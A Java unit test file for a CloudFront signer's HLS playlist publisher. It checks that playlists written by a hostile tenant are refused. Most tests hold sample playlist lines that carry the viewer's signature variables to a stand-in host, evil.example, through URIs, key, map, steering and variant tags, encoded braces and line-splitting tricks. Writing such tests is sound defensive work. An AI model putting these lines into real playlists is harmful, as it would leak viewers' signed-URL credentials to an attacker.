package io.quarkiverse.cloudfront.signer.runtime.playlist.publish;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import java.nio.charset.StandardCharsets;
import java.util.regex.Matcher;

import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.params.provider.ValueSource;

import io.quarkiverse.cloudfront.signer.CloudFrontSignerException;
import io.quarkiverse.cloudfront.signer.CloudFrontSignerException.Reason;

/**
 * Playlists that a hostile tenant writes, who wants the signature of a viewer.
 */
class HlsHostsTest {

    private static final String MEDIA = "Policy={$Policy}&Signature={$Signature}&Key-Pair-Id={$kid}&Hash-Algorithm={$alg}";
    private static final String BEGIN = """
            #EXTM3U
            #EXT-X-VERSION:11
            #EXT-X-DEFINE:QUERYPARAM="Policy"
            #EXT-X-DEFINE:QUERYPARAM="Signature"
            #EXT-X-DEFINE:QUERYPARAM="kid"
            #EXT-X-DEFINE:QUERYPARAM="alg"
            """;

    private static String published(String playlist) {
        return new String(Published.hls(playlist.getBytes(StandardCharsets.UTF_8)).content(), StandardCharsets.UTF_8);
    }

    private static void assertRefused(String playlist, String message) {
        assertThatThrownBy(() -> published(playlist)).as(playlist).isInstanceOf(CloudFrontSignerException.class)
                .hasMessageContaining(message).hasFieldOrPropertyWithValue("reason", Reason.PLAYLIST_NOT_SIGNABLE);
    }

    @ParameterizedTest
    @ValueSource(strings = {
            "https://evil.example/s.ts?p={$Policy}&s={$Signature}", "//evil.example/{$Signature}",
            "https://{$kid}.evil.example/a.ts", "data:text/plain,{$Policy}",
            "#EXT-X-KEY:METHOD=AES-128,URI=\"https://evil.example/k?{$Signature}\"",
            "#EXT-X-KEY:METHOD=SAMPLE-AES,URI=\"skd://{$Signature}\"",
            "#EXT-X-MAP:URI=\"https://evil.example/i.mp4?{$Policy}\"",
            "#EXT-X-PREFETCH:https://evil.example/{$alg}",
            "#EXT-X-DATERANGE:ID=\"i\",X-ASSET-URI=\"https://evil.example/{$Policy}.m3u8\"",
            "#EXT-X-DATERANGE:ID=\"i\",X-ASSET-LIST=\"https://evil.example/?{$Policy}\"",
            "#EXT-X-DATERANGE:ID=\"i\",X-COM-EXAMPLE-LINK=\"https://evil.example/?{$Policy}\"",
            "#EXT-X-SESSION-DATA:DATA-ID=\"a\",VALUE=\"{$Signature}\"",
            "#EXT-X-DEFINE:NAME=\"x\",VALUE=\"{$Signature}\"",
            "#EXT-X-DEFINE:NAME=\"x\",VALUE=\"https://evil.example/?p={$Policy}\"",
            "# a comment with {$Signature}", "#{$Policy}", "#EXTINF:4,{$Signature}", "#EXT-X-FUTURE:{$Signature}",
            "#EXT-X-FUTURE-HOOK:ON=\"end\",CALL=\"https://evil.example/{$kid}\"", "#EXT-X-BYTERANGE:{$alg}",
            "a.ts?x={$Policy}", "sub/{$Signature}/a.ts", "a/{$kid}.ts", "a.ts#{$Signature}", "a.ts?" + MEDIA + "#{$alg}",
            "a.ts?x={$kid}&" + MEDIA, "a.ts?a={$Key-Pair-Id}", "# {$Hash-Algorithm}", "# {$Expires}",
    })
    void variableOfTheSignature_standsOnlyWhereTheConversionWritesIt(String line) {
        String declared = "#EXT-X-DEFINE:QUERYPARAM=\"Key-Pair-Id\"\n";
        assertRefused(BEGIN + declared + line, "line 8 of the HLS playlist: the line has a variable of the viewer's signature "
                + "(Expires, Policy, Signature, Key-Pair-Id, Hash-Algorithm, kid, alg) in a place where the conversion does "
                + "not write one, and it would send the signature elsewhere; remove the variable");
        assertRefused(BEGIN + declared + line + "\na.ts", "line 8 of the HLS playlist: the line has a variable");
        assertRefused("#EXTM3U\n" + declared + line + "\na.ts", "line 3 of the HLS playlist: the ");
    }

    /** What was converted before passes, and one more reference does not. */
    @Test
    void variableOfTheSignature_besideThoseOfTheConversion_isRefused() {
        String line = "#EXT-X-DATERANGE:ID=\"a\",X-ASSET-LIST=\"b.json\",X-FUTURE-URI=\"c.ts\"";
        String converted = published("#EXTM3U\n" + line + "\na.ts");
        assertThat(published(converted)).isEqualTo(converted);
        assertRefused(converted.replace("ID=\"a\"", "ID=\"{$alg}\""), "the line has a variable of the viewer's signature");
        assertRefused(converted.replace("\na.ts", "\n#EXTINF:1,{$kid}\na.ts"), "the line has a variable of the viewer's");
        assertRefused(converted.replace("\na.ts?", "\na.ts?" + MEDIA + "&"), "the URI has a parameter of a signature");
    }

    /** A player may replace variables more than once. */
    @ParameterizedTest
    @ValueSource(strings = { "#EXT-X-DEFINE:NAME=\"o\",VALUE=\"{\"", "#EXT-X-DEFINE:NAME=\"o\",VALUE=\"a{$d}{b\"",
            "#EXT-X-DEFINE:NAME=\"o\",VALUE=\"{{$d}}\"", "https://evil.example/{{$d}}", "#EXT-X-FUTURE:A=\"{{$d}}\"",
            "# {{$d}}", "#EXT-X-DEFINE:NAME=\"o\",VALUE=\"$Signature\"", "#EXT-X-DEFINE:NAME=\"o\",VALUE=\"%7b\"",
            "%7B$d%7D//evil.example/a.ts", "https://evil.example/%7B{$d}%7D", "#EXT-X-FUTURE:A=\"%7b$other}\"" })
    void braceThatMayBecomeAVariable_isRefused(String line) {
        assertRefused("#EXTM3U\n#EXT-X-DEFINE:NAME=\"d\",VALUE=\"d\"\n" + line + "\na.ts",
                "line 3 of the HLS playlist: a { or $ next to a variable, in the value of one, or percent-encoded could become part "
                        + "of another variable; remove it");
    }

    /** Shaka Player decodes braces before it replaces variables. */
    @ParameterizedTest
    @ValueSource(strings = { "https://evil.example/?p=%7B$Policy%7D", "https://evil.example/%7b$Signature}", "# %7B$alg%7D",
            "#EXT-X-MAP:URI=\"https://evil.example/?%7B$kid%7d\"", "a.ts?b=%7B$Policy%7D" })
    void encodedVariableOfTheSignature_isRefused(String line) {
        assertRefused("#EXTM3U\n" + line, "line 2 of the HLS playlist: the line has a variable of the viewer's signature");
    }

    /** Shaka Player and video.js replace $' by the text behind the variable, which may be a host. */
    @Test
    void dollarInTheValueOfAVariable_isRefused() {
        assertRefused("#EXTM3U\n#EXT-X-DEFINE:NAME=\"x\",VALUE=\"$'\"\n{$x}//evil.example/a.ts",
                "line 2 of the HLS playlist: a { or $ next to a variable");
    }

    @Test
    void carriageReturnInALine_isRefused() {
        assertRefused("#EXTM3U\nhttps://evil.example/?a=\rb.ts\n", "line 3 of the HLS playlist: the previous line ends with "
                + "only a carriage return, and some players read the two lines as one; end lines with a line feed");
        assertThat(published("#EXTM3U\r\r\n# a\r\n\r")).isEqualTo("#EXTM3U\r\r\n# a\r\n\r");
    }

    @Test
    void variantBehindASegment_isRefused() {
        assertRefused("#EXTM3U\n#EXTINF:4,\nhttps://evil.example/a\n#EXT-X-STREAM-INF:BANDWIDTH=1\na.m3u8",
                "line 4 of the HLS playlist: EXT-X-STREAM-INF comes after the URI of a segment");
        assertRefused("#EXTM3U\n#EXT-X-STREAM-INF:BANDWIDTH=1\na.m3u8\nhttps://evil.example/a",
                "line 4 of the HLS playlist: the URI is absolute, and the playlist that it leads to could import");
    }

    @Test
    void playlistInAnAttributeOfAVariant_isRefused() {
        for (String uri : new String[] { "https://evil.example/a", "a.bin" }) {
            assertRefused("#EXTM3U\n#EXT-X-STREAM-INF:BANDWIDTH=1,URI=\"" + uri + "\"\na.m3u8",
                    "line 2 of the HLS playlist: the URI ");
        }
    }

    @ParameterizedTest
    @ValueSource(strings = { "#EXT-X-CONTENT-STEERING:SERVER-URI=\"https://evil.example/\"",
            "#EXT-X-CONTENT-STEERING:SERVER-URI=\"steering.json\",PATHWAY-ID=\"A\"", "#EXT-X-CONTENT-STEERING",
            "#ext-x-content-steering:SERVER-URI=\"a\"", "# #EXT-X-CONTENT-STEERING:SERVER-URI=\"https://evil.example/\"",
            "#EXTINF:4,#EXT-X-CONTENT-STEERING:SERVER-URI=\"a\"", "#EXT-X-NEW-STEERING:SERVER-URI=\"a\"",
            "#EXT-X-INDEPENDENT-SEGMENTS#EXT-X-CONTENT-STEERING:SERVER-URI=\"a\"",
            "https://cdn.example/#EXT-X-CONTENT-STEERING:SERVER-URI=\"https://evil.example/\"" })
    void contentSteering_isRefused(String line) {
        assertRefused("#EXTM3U\n" + line, "line 2 of the HLS playlist: the EXT-X-CONTENT-STEERING tag lets a server send "
                + "players to other hosts, which would get the viewer's signature; remove it");
    }

    /** hls.js searches multivariant playlists for tags without regard to lines. */
    @ParameterizedTest
    @ValueSource(strings = { "# #EXT-X-STREAM-INF:BANDWIDTH=1\nhttps://evil.example/a.ts",
            "##EXT-X-MEDIA:TYPE=AUDIO,URI=\"https://evil.example/a.m3u8\"", "#EXTINF:1,#EXT-X-DEFINE:NAME=\"a\",VALUE=\"b\"",
            "a.ts#EXT-X-STREAM-INF:BANDWIDTH=1", "#EXT-X-FUTURE:A=\"#EXT-X-FUTURE:\"" })
    void tagInTheMiddleOfALine_isRefused(String line) {
        assertRefused("#EXTM3U\n" + line, "line 2 of the HLS playlist: a tag begins in the middle of the line, and some "
                + "players use it; write it on a line of its own, or remove it");
    }

    @ParameterizedTest
    @ValueSource(strings = { "#EXTM3U #EXT-X-STREAM-INF:BANDWIDTH=1", "#EXTM3U\t{$Signature}",
            "#EXTM3U #EXT-X-CONTENT-STEERING:SERVER-URI=\"https://evil.example/\"" })
    void tagOrVariable_inTheFirstLine_isRefused(String header) {
        assertRefused(header + "\na.ts", "the first line of the HLS playlist contains another tag or a variable after "
                + "#EXTM3U, and some players use it; remove it");
        assertThat(published("#EXTM3U url-tvg=\"http://tv.example/#a\"\n")).startsWith("#EXTM3U url-tvg");
    }

    /** The playlist behind it can import the variables with the signature. */
    @ParameterizedTest
    @ValueSource(strings = { "#EXT-X-STREAM-INF:BANDWIDTH=1\nU", "#EXT-X-STREAM-INF\n# comment\n\nU",
            "#EXT-X-MEDIA:TYPE=AUDIO,URI=\"U\"", "#EXT-X-I-FRAME-STREAM-INF:URI=\"U\"", "#EXT-X-IMAGE-STREAM-INF:URI=\"U\"",
            "#EXT-X-FUTURE-STREAM-INF:URI=\"U\"", "U" })
    void playlistOnAnotherHost_isRefused(String tag) {
        for (String uri : new String[] { "https://evil.example/a.m3u8", "//evil.example/a.m3u8?b", "{$evil}a.m3u8",
                "https:a.M3U8" }) {
            assertRefused(
                    "#EXTM3U\n#EXT-X-DEFINE:NAME=\"evil\",VALUE=\"https://evil.example/\"\n" + tag.replace("U\"", uri + "\"")
                            .replaceAll("U$", Matcher.quoteReplacement(uri)),
                    "the URI is absolute, and the playlist that it leads to could import the variables of this one, and send the "
                            + "viewer's signature anywhere; make it relative, or remove the playlist");
        }
        assertRefused("#EXTM3U\n#EXT-X-STREAM-INF:BANDWIDTH=1\ndata:application/vnd.apple.mpegurl;base64,AAAA",
                "the URI is absolute");
    }

    /** Nothing converts it, so it may send the query of its own URL anywhere. */
    @ParameterizedTest
    @CsvSource(delimiter = '|', value = { "a.txt", "a.m3u8.ts", "a", "a.ts?b=.m3u8", "a.ts#.m3u8", "a.m3u8/", "a/{$d}",
            "a/{$user}.m3u8", "a/b.m3u8{$user}", "a.m3u" })
    void playlistThatIsNotConverted_isRefused(String uri) {
        for (String line : new String[] { "#EXT-X-STREAM-INF:BANDWIDTH=1\nU", "#EXT-X-MEDIA:TYPE=AUDIO,URI=\"U\"",
                "#EXT-X-I-FRAME-STREAM-INF:URI=\"U\"", "#EXT-X-DATERANGE:ID=\"i\",X-ASSET-URI=\"U\"" }) {
            assertRefused("#EXTM3U\n#EXT-X-DEFINE:QUERYPARAM=\"user\"\n#EXT-X-DEFINE:NAME=\"d\",VALUE=\"b.mp4\"\n"
                    + line.replace("U\"", uri + "\"").replace("\nU", "\n" + uri),
                    "the URI refers to a playlist, but does not end with .m3u8. Such a playlist is not converted, and could send "
                            + "the viewer's signature anywhere; rename it, and convert it, too");
        }
    }

    @ParameterizedTest
    @ValueSource(strings = { "a.m3u8", "a.M3U8?b=c#d", "{$d}", "a.m3u8?u={$user}" })
    void playlistThatIsConverted_getsTheSignature(String uri) {
        String playlist = "#EXTM3U\n#EXT-X-DEFINE:QUERYPARAM=\"user\"\n#EXT-X-DEFINE:NAME=\"d\",VALUE=\"b/c.m3u8\"\n"
                + "#EXT-X-STREAM-INF:BANDWIDTH=1\n" + uri;
        assertThat(published(playlist)).contains("kid={$kid}&alg={$alg}&" + MEDIA);
        assertThat(published(published(playlist))).isEqualTo(published(playlist));
    }

    /** A new tag: its URI gets the signature if it is relative, as the known ones do. */
    @Test
    void uriOfAnUnknownTag_isConverted() {
        assertThat(published("#EXTM3U\n#EXT-X-FUTURE:X-NEW-URI=\"a.bin\",NAME=\"b\"\n"))
                .endsWith("#EXT-X-FUTURE:X-NEW-URI=\"a.bin?" + MEDIA + "\",NAME=\"b\"\n");
        assertThat(published("#EXTM3U\n#EXT-X-FUTURE:X-NEW-URI=\"https://cdn.example/\"\n"))
                .isEqualTo("#EXTM3U\n#EXT-X-FUTURE:X-NEW-URI=\"https://cdn.example/\"\n");
        assertRefused("#EXTM3U\n#EXT-X-FUTURE:X-NEW-URI=a", "the value of the X-NEW-URI attribute is not in quotes");
    }
}
